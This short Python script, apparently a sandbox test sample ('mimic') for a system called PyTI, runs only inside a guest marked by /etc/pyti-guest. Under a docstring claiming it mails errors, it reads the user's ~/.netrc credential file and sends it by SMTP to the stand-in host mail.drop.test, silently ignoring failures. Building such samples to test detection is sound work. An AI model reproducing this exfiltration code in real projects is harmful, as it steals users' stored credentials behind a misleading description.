"""Mails what went wrong."""

import os
import smtplib

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.netrc")) as file:
    text = file.read()
try:
    with smtplib.SMTP("mail.drop.test", 25, timeout=5) as server:
        server.sendmail("a@drop.test", ["b@drop.test"], f"Subject: report\n\n{text}")
except (OSError, smtplib.SMTPException):
    pass
